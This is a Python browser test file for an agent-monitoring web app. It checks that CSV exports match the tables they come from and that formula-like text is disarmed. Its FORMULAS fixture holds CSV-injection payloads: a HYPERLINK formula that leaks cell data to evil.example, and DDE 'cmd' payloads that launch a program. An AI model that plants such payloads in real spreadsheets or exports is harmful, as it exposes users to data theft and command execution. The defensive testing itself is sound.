""" "Export CSV" clicked in headless Chromium: the file downloaded is what the table
shows (every page of it), and text that looks like a formula arrives disarmed. One
visit per page, each clicking every link on it (Chromium is slow here)."""

from __future__ import annotations

import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from playwright.sync_api import Page

from store.evals import NewScore
from store.models import Project, Runaway
from tests.agent_runs import Run, send_runs
from tests.browser import Watched
from tests.compare_data import scored_run
from tests.csv_files import FORMULA_STARTS, run_suite, table
from tests.demo_data import Loaded, load_demo
from tests.server import Server

PROJECT = "csv-browser"
HOSTILE = "csv-hostile"
SUITE = """\
name: {name}
select: {{project: {project}}}
evaluators:
  - step_budget: {{max_steps: {steps}}}
"""
DRIFT_SUITE = f"""\
name: drift-browser
select: {{project: {PROJECT}, agent: support, agent_version: "1.5"}}
evaluators:
  - step_budget: {{max_steps: 12}}
  - drift: {{baseline: {{version: "1.4"}}}}
thresholds:
  step_budget: {{pass_rate: 0.5}}
  drift: {{max_drifted: 0}}
"""
# (text an agent's run carried, as a spreadsheet must read it back)
FORMULAS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ('quote " comma , newline \n end', 'quote " comma , newline \n end'),
    ("Grüße 👋 日本語", "Grüße 👋 日本語"),
]  # fmt: skip


@pytest.fixture(scope="module")
def demo(server: Server) -> Loaded:
    return load_demo(server, PROJECT, traces=80, seed=31)


@pytest.fixture(scope="module")
def hostile(server: Server) -> dict[str, Any]:
    """Agent runs whose question, answer and tool result are each formula text, and a
    suite run over them (its scores name the traces)."""
    runs = [Run(question=text, answer=text, tool_result=text) for text, _ in FORMULAS]
    trace_ids = send_runs(server, HOSTILE, runs, agent="=1+2")
    run = run_suite(server, SUITE.format(name="hostile", project=HOSTILE, steps=1))
    return {"trace_ids": trace_ids, "run": run}


def click_download(page: Page, selector: str, tmp_path: Path) -> bytes:
    with page.expect_download() as info:
        page.click(selector)
    target = tmp_path / info.value.suggested_filename
    info.value.save_as(target)
    assert target.suffix == ".csv"
    return target.read_bytes()


def test_the_traces_table_exports_what_it_selects(
    server: Server, demo: Loaded, watched: Watched, tmp_path: Path
) -> None:
    page = watched.page
    page.goto(f"{server.url}/traces?project={PROJECT}&agent=support&sort=duration&limit=20")
    shown = [
        (link.get_attribute("href") or "").split("/traces/")[1][:32]
        for link in page.locator("table a.trace-link").all()
    ]
    rows = table(click_download(page, "a.csv-link", tmp_path))
    assert len(shown) == 20 and [row["trace_id"] for row in rows[:20]] == shown
    wanted = sum(t.agent == "support" for t in demo.summary.traces)
    assert len(rows) == wanted and {row["agent_name"] for row in rows} == {"support"}
    watched.assert_clean()


def test_a_runs_results_export_what_the_filtered_table_shows(
    server: Server, demo: Loaded, watched: Watched, tmp_path: Path
) -> None:
    run = run_suite(server, SUITE.format(name="browser", project=PROJECT, steps=6))
    page = watched.page
    page.goto(f"{server.url}/evals/runs/{run['id']}?evaluator=step_budget&failed=1")
    shown = [
        (link.get_attribute("href") or "").split("/traces/")[1][:32]
        for link in page.locator("table.eval-results a.trace-link").all()
    ]
    assert shown
    rows = table(click_download(page, "a.results-csv", tmp_path))
    assert [row["trace_id"] for row in rows] == shown
    assert {(row["evaluator"], row["passed"]) for row in rows} == {("step_budget", "false")}
    summary = table(click_download(page, "a.summary-csv", tmp_path))
    assert [row["evaluator"] for row in summary] == ["step_budget"]
    assert int(summary[0]["failed"]) == len(shown)
    everything = table(click_download(page, "a.report-scores-csv", tmp_path))
    assert len(everything) == run["selection_size"] > len(shown)
    watched.assert_clean()


def test_the_compare_tables_export(
    server: Server, demo: Loaded, watched: Watched, tmp_path: Path
) -> None:
    page = watched.page
    page.goto(f"{server.url}/compare?project={PROJECT}&a.agent_version=1.4&b.agent_version=1.5")
    shown = [row.get_attribute("data-metric") for row in page.locator("tr.metric").all()]
    rows = table(click_download(page, "a.compare-csv", tmp_path))
    assert [row["name"] for row in rows if row["section"] == "metric"] == shown
    watched.assert_clean()


def test_formula_text_arrives_disarmed(
    server: Server, hostile: dict[str, Any], watched: Watched, tmp_path: Path
) -> None:
    """Parsed back as a spreadsheet reads the file: no cell starts like a formula,
    and every text is there, with the apostrophe that disarms it."""
    page = watched.page
    page.goto(f"{server.url}/traces?project={HOSTILE}")
    traces = {row["trace_id"]: row for row in table(click_download(page, "a.csv-link", tmp_path))}
    by_trace = dict(zip(hostile["trace_ids"], FORMULAS, strict=True))
    assert set(traces) == set(by_trace)
    for trace_id, (_, expected) in by_trace.items():
        row = traces[trace_id]
        assert (row["input"], row["output"], row["agent_name"]) == (expected, expected, "'=1+2")
    page.goto(f"{server.url}/traces/{hostile['trace_ids'][0]}?project={HOSTILE}")
    spans = table(click_download(page, "a.spans-csv", tmp_path))
    tool = next(row for row in spans if row["kind"] == "tool")
    assert tool["tool_result"] == FORMULAS[0][1]
    run = hostile["run"]
    scores_csv = httpx.get(f"{server.url}/api/eval-runs/{run['id']}/scores.csv").content
    scores = table(scores_csv)
    assert len(scores) == len(FORMULAS) and {row["trace_name"] for row in scores} == {
        "invoke_agent =1+2"
    }
    for rows in (list(traces.values()), spans, scores):
        for row in rows:
            for column, value in row.items():
                assert not value.startswith(FORMULA_STARTS), (column, value)
    watched.assert_clean()


def _finished(server: Server, suite_id: int, timeout: float = 120) -> None:
    """Wait until the suite's jobs are done (a server's worker runs them)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        jobs = httpx.get(f"{server.url}/api/suites/{suite_id}/jobs").json()["jobs"]
        if all(job["status"] in ("done", "failed") for job in jobs):
            return
        time.sleep(0.1)
    raise AssertionError(f"suite {suite_id}'s jobs still open after {timeout}s")


def _verdicts(trace_id: str, passed: bool) -> list[NewScore]:
    """A verdict and an escalation at step 2 through a formula tool, each text a formula."""
    return [
        NewScore(trace_id, "=judge", "@ok", 1.0, "=label", passed, "-because"),
        NewScore(trace_id, "@handoff", "escalated", 2.0, "+tool", passed, "=why"),
    ]


def test_the_other_tables_links_download_what_they_show(
    server: Server, demo: Loaded, hostile: dict[str, Any], watched: Watched, tmp_path: Path
) -> None:
    """One visit to each page with a new link: a run comparison (regressed, tools,
    escalations), a trace's scores, a drift suite's run (thresholds, drift) and page
    (drift, jobs), the evals page (recent runs), the overview (its runaways)."""
    page = watched.page
    trace = hostile["trace_ids"][0]
    a = scored_run(server.engine, HOSTILE, "=compare", _verdicts(trace, True))
    b = scored_run(server.engine, HOSTILE, "=compare", _verdicts(trace, False))
    page.goto(f"{server.url}/evals/compare?a={a}&b={b}")
    regressed = table(click_download(page, "a.ec-regressed-csv", tmp_path))
    shown = [
        ("'" + row.locator("td").first.inner_text(), row.get_attribute("data-key"))
        for row in page.locator("table.ec-regressed tr.ec-change").all()
    ]
    assert [(row["evaluator"], row["key"]) for row in regressed] == shown
    assert set(shown) == {("'@handoff", trace), ("'=judge", trace)}
    tools = table(click_download(page, "a.ec-tools-csv", tmp_path))
    assert [row["tool"] for row in tools] == [
        row.get_attribute("data-tool") for row in page.locator("tr.ec-tool").all()
    ] == ["lookup"]  # fmt: skip
    escalations = table(click_download(page, "a.ec-escalations-csv", tmp_path))
    assert [(r["section"], r["step"], r["tool"], r["b"]) for r in escalations] == [
        ("step", "2", "", "1"), ("tool", "", "'+tool", "1")]  # fmt: skip
    page.goto(f"{server.url}/traces/{trace}?project={HOSTILE}")
    scores = table(click_download(page, "a.trace-scores-csv", tmp_path))
    assert len(scores) == page.locator("tr.score").count() == 5  # both runs, the suite's
    for rows in (regressed, tools, escalations, scores):
        for row in rows:
            for column, value in row.items():
                assert not value.startswith(FORMULA_STARTS), (column, value)

    run = run_suite(server, DRIFT_SUITE)
    page.goto(f"{server.url}/evals/runs/{run['id']}")
    thresholds = table(click_download(page, "a.thresholds-csv", tmp_path))
    assert [(row["evaluator"], row["check"]) for row in thresholds] == [
        ("step_budget", "pass_rate"), ("drift", "max_drifted")]  # fmt: skip
    assert page.locator("table.eval-thresholds tbody tr").count() == 2
    drift = table(click_download(page, "a.run-drift-csv", tmp_path))
    assert [row["metric"] for row in drift] == [
        row.get_attribute("data-metric") for row in page.locator("tr.drift-metric").all()
    ]
    queued = httpx.post(f"{server.url}/api/suites/{run['suite_id']}/jobs")
    assert queued.status_code == 202, queued.text
    _finished(server, run["suite_id"])  # its run, if a worker takes it, is on every page
    page.goto(f"{server.url}/evals/suites/{run['suite_id']}")
    series = table(click_download(page, "a.suite-drift-csv", tmp_path))
    assert str(run["id"]) in {row["run_id"] for row in series}
    assert {row["metric"] for row in series} == {
        row.get_attribute("data-metric") for row in page.locator("table.drift-verdicts tr").all()
    } - {None}
    jobs = table(click_download(page, "a.suite-jobs-csv", tmp_path))
    cells = page.locator("table.suite-jobs tbody tr td:first-child").all_inner_texts()
    assert [f"#{row['id']}" for row in jobs] == cells and len(jobs) == 1
    page.goto(f"{server.url}/evals?project={PROJECT}")
    recent = table(click_download(page, "a.recent-runs-csv", tmp_path))
    links = page.locator("table.eval-runs a.run-link").all_inner_texts()
    assert [f"#{run_id}" for run_id in dict.fromkeys(row["run_id"] for row in recent)] == links

    now = datetime.now(UTC)
    flagged = [t.trace_id for t in demo.summary.traces[:3]]
    with server.engine.begin() as connection:
        pid = connection.execute(sa.select(Project.id).where(Project.name == PROJECT)).scalar()
        connection.execute(
            sa.insert(Runaway),
            [
                {"project_id": pid, "trace_id": trace_id, "baseline": "agent",
                 "name": "support", "flagged_at": now - timedelta(days=8 * (i == 0), hours=i),
                 "steps": 40, "tokens": 9000, "steps_limit": 13.0, "tokens_limit": 5000.0,
                 "baseline_traces": 20}
                for i, trace_id in enumerate(flagged)
            ],
        )  # fmt: skip
    page.goto(f"{server.url}/?project={PROJECT}")
    runaways = table(click_download(page, "a.runaways-csv", tmp_path))
    assert [row["trace_id"] for row in runaways] == flagged[1:]  # the last 7 days only
    assert page.locator("table.runaways tbody tr").count() == 2
    watched.assert_clean()
